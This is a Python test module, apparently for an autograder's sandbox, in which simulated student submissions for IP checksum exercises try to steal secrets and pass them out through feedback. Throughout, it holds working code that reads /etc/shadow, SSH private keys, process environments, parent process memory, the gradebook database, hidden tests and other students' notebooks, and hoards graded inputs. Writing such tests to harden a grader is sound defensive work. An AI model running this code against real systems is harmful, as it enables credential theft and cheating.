"""Submissions that read what they should not, and tell it in every way they know."""

# ruff: noqa: E501 - students' code in strings

from __future__ import annotations

from hostile.desk import TELL, Desk, attack

SAYS = """
def internet_checksum(data): raise type(SAID, (Exception,), {})(SAID)
def decrement_ttl(packet): print(SAID); return SAID.encode()
"""
"""What was found goes into messages, names of classes, printed output and values: all that feedback shows."""


def reading(desk: Desk, source: str) -> None:
    """Run `source`, which sets FOUND, in a cell of its own; tell what it found, if anything."""
    desk.add(TELL + "FOUND = []\n" + source + "\nSAID = tell(FOUND) if FOUND else 'nothing found'\n" + SAYS)
    for number in ("5.1", "5.4"):
        desk.answer(number, "pass")


@attack("reads", control="told")
def a_file_of_the_instructors(desk: Desk) -> None:
    """Anything that the instructor's account can read: keys, mail, last year's exam."""
    reading(
        desk,
        """
for path in ("@SECRET@", "/etc/shadow", "/root/.ssh/id_ed25519", "/etc/machine-id", "/etc/hostname", "/etc/passwd"):
    try:
        with open(path) as file:
            if "@SECRET@" == path or len(file.read(64)) > 0:
                FOUND.append(path)
                FOUND.append(open(path).read()[:100])
    except OSError:
        pass
""",
    )


@attack("reads", control="told")
def the_environment(desk: Desk) -> None:
    """API keys and database passwords stand in the grader's environment, which a kernel inherits."""
    reading(
        desk,
        """
import glob
for name, value in os.environ.items():
    if "SECRET" in name or "canary" in value:
        FOUND.append(name + "=" + value)
for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    at = data.find(b"canary")
    if at >= 0:
        FOUND.append((path, data[max(0, at - 20):at + 40]))
""",
    )


@attack("reads", control="told")
def another_students_submission(desk: Desk) -> None:
    """submitted/ lies beside: everybody else's answers, which could be handed in next week or used at once."""
    reading(
        desk,
        """
import glob
for path in ["@OTHER@", *glob.glob("@COURSE@/submitted/*/*/*.ipynb"), *glob.glob("../../*/*/*.ipynb")]:
    try:
        FOUND.append((path, open(path).read()[:60]))
    except OSError:
        pass
""",
    )


@attack("reads", control="gained")
def solutions_on_disk(desk: Desk) -> None:
    """solutions/ and zoo.py lie in the course's folder: their cells are executed in place of one's own."""
    desk.add(
        TELL
        + """
import glob, json, pathlib
here = pathlib.Path.cwd()
places = [pathlib.Path("@COURSE@"), here, *here.parents]
for place in places:
    for path in place.glob("solutions/05-ip-packet/05-ip-packet.ipynb"):
        tell(path)
        for cell in json.loads(path.read_text())["cells"]:
            if cell.get("id", "").startswith("exercise-"):
                exec("".join(cell["source"]), globals())
"""
    )
    for number in ("5.1", "5.2", "5.3", "5.4", "5.5", "5.6"):
        desk.answer(number, "pass")


@attack("reads", control="told")
def hidden_tests_in_the_gradebook(desk: Desk) -> None:
    """gradebook.db is a file in the course's folder; its source cells are the hidden tests, its rows everyone's
    scores.
    """
    reading(
        desk,
        """
import sqlite3
try:
    with sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True) as book:
        for table in ("source_cell", "grade", "student"):
            FOUND.append(list(book.execute(f"select * from {table}"))[:3])
except sqlite3.Error:
    pass
""",
    )


@attack("reads", control="told")
def hidden_tests_in_history(desk: Desk) -> None:
    """In[], user_ns and the caller's frame hold each hidden test while, or before, it runs; autograded/ holds them on
    disk.
    """
    reading(
        desk,
        """
import sys, glob
frame = sys._getframe()
while frame:
    FOUND += [str(value)[:200] for value in frame.f_locals.values() if "BEGIN " + "HIDDEN" in str(value)[:2000]]
    frame = frame.f_back
""",
    )
    desk.answer(
        "5.1",
        """
def internet_checksum(data):
    import sys
    frame, found = sys._getframe(), []
    while frame:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if name.strip("_") in ("expected", "reference", "seed") or name == "In":
                found.append((name, str(value)[:200]))
        frame = frame.f_back
    found = [item for item in found if "grade(" in item[1] or item[0] != "In"]
    if found:
        raise RuntimeError(tell(found))
    return 0
""",
    )


@attack("reads", control="told")
def memory_of_the_parent(desk: Desk) -> None:
    """/proc/<pid>/mem and inherited descriptors: an unprotected child reads its parent's secrets without any file."""
    reading(
        desk,
        """
import re
for pid in {os.getppid(), 1}:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                if "[heap]" in line or "[stack]" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    data = memory.read(min(end - start, 1 << 20))
                    if data:
                        FOUND.append((pid, len(data)))
                        break
    except (OSError, ValueError, OverflowError):
        pass
for descriptor in range(3, 64):
    try:
        path = os.readlink(f"/proc/self/fd/{descriptor}")
    except OSError:
        continue
    if path.startswith("/") and not path.startswith(("/dev", "/proc")) and ("@COURSE@" in path or "memfd" in path):
        FOUND.append(path)
""",
    )


@attack("reads", control="told")
def course_files_by_walking(desk: Desk) -> None:
    """A walk over the file system finds course, grading, gradebook, home and neighbours, wherever they are."""
    reading(
        desk,
        """
for top in ("/home", "/root", "/srv", "/mnt", "/media", "/var", "/opt", "/work", "/tmp", "@COURSE@", ".", ".."):
    for place, folders, files in os.walk(top):
        if place.count("/") > 7:
            folders.clear()
        for name in files:
            if name in ("gradebook.db", "nbgrader_config.py", "seed", "zoo.py", "id_ed25519", ".bash_history") or name.endswith(".ipynb"):
                FOUND.append(os.path.join(place, name))
        if len(FOUND) > 5:
            break
""",
    )


@attack("reads", control="told")
def netlib_sources_on_disk(desk: Desk) -> None:
    """netlib's files, scapy's and the declarations: what an exercise asks for stands in them."""
    reading(
        desk,
        """
import sys, sysconfig, glob, importlib.util
for place in {*sys.path, sysconfig.get_path("purelib"), sysconfig.get_path("platlib"), "@NETLIB@"}:
    for pattern in ("netlib/wire/checksum.py", "netlib/**/checksum*.pyc", "scapy/utils.py", "dpkt/dpkt.py", "wire/checksum.py"):
        for path in glob.glob(os.path.join(place or ".", pattern), recursive=True):
            FOUND.append((path, open(path, "rb").read()[:40]))
""",
    )


@attack("reads", control="told")
def writable_places(desk: Desk) -> None:
    """What could be changed for those who come later: site-packages, the interpreter, start-up files. Only asked, not
    tried.
    """
    reading(
        desk,
        """
import sys, sysconfig
for place in (sys.prefix, sys.base_prefix, sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), "/usr", "/etc", "/",
              "/usr/bin", "/lib", sys.executable, "@COURSE@"):
    if os.path.exists(place) and os.access(place, os.W_OK) and not os.statvfs(place).f_flag & os.ST_RDONLY:
        FOUND.append(place)
if FOUND == ["/"]:
    FOUND.clear()
""",
    )


@attack("reads", control="told", earned=2)
def tells_the_inputs_it_is_graded_with(desk: Desk) -> None:
    """Each input is printed, kept and raised again later: next week's submission has a table of them.

    Inputs of the student's own check are public; the graded ones must not come back in any text (see the test).
    """
    desk.add(TELL)
    desk.answer(
        "5.1",
        """
SEEN = []
def internet_checksum(data):
    SEEN.append(data.hex())
    if len(SEEN) == 1: tell("inputs")
    print("HOARD", *SEEN[-40:])
    if len(data) % 2: data += b"\\0"
    total = sum(int.from_bytes(data[at:at + 2], "big") for at in range(0, len(data), 2))
    while total > 0xFFFF: total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF
""",
    )
    desk.answer(
        "5.4",
        """
KEPT = []
def decrement_ttl(packet):
    KEPT.append(packet.hex())
    if len(KEPT) > 150:
        raise RuntimeError("HOARD " + " ".join(KEPT[-8:]))
    if packet[8] == 0: raise ValueError("TTL is 0")
    old, new = packet[8:10], bytes([packet[8] - 1, packet[9]])
    total = sum(int.from_bytes(word, "big") ^ turn for word, turn in ((packet[10:12], 0xFFFF), (old, 0xFFFF), (new, 0)))
    while total > 0xFFFF: total = (total & 0xFFFF) + (total >> 16)
    return packet[:8] + new + (total ^ 0xFFFF).to_bytes(2, "big") + packet[12:]
""",
    )
